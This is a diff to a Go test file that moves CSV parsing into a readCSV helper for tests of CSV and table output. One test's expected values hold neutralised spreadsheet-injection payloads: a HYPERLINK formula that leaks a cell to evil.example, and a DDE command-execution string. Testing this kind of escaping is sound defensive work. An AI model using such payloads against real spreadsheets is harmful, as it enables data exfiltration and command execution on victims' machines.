@@ -3,6 +3,7 @@ package output
 import (
 	"bytes"
 	"encoding/csv"
+	"io"
 	"slices"
 	"strings"
 	"testing"
@@ -140,14 +141,7 @@ func TestCSVWritesTextAsText(t *testing.T) {
 	if strings.Contains(b.String(), `"""`) {
 		t.Errorf("a text is written as a JSON string:\n%s", b.String())
 	}
-	rows, err := csv.NewReader(&b).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	got := map[string]string{}
-	for i, col := range rows[0] {
-		got[col] = rows[1][i]
-	}
+	_, got := readCSV(t, &b)
 	for col, want := range map[string]string{
 		"last_analysis_date":  "2018-12-27T00:19:13Z",
 		"verdict":             "malicious <b>",
@@ -186,14 +180,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	if err := CSV(&b, env); err != nil {
 		t.Fatal(err)
 	}
-	rows, err := csv.NewReader(&b).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	got := map[string]string{}
-	for i, col := range rows[0] {
-		got[col] = rows[1][i]
-	}
+	rows, got := readCSV(t, &b)
 	for col, want := range map[string]string{
 		"input":           `'=HYPERLINK("http://evil.example/?leak="&A2,"open")`,
 		"risk_reason":     `'-2+3+cmd|' /C calc'!A0`,
@@ -277,4 +264,22 @@ func TestTableEscapesBidiAndInvisibleCharacters(t *testing.T) {
 		t.Fatal(err)
 	}
 	invisibleFree(t, "csv", b.String())
+}
+
+// readCSV reads CSV from r: its rows, and the first row after the header by the
+// header's columns.
+func readCSV(t *testing.T, r io.Reader) (rows [][]string, first map[string]string) {
+	t.Helper()
+	rows, err := csv.NewReader(r).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) < 2 {
+		t.Fatalf("%d CSV rows, want a header and a row", len(rows))
+	}
+	first = map[string]string{}
+	for i, col := range rows[0] {
+		first[col] = rows[1][i]
+	}
+	return rows, first
 }
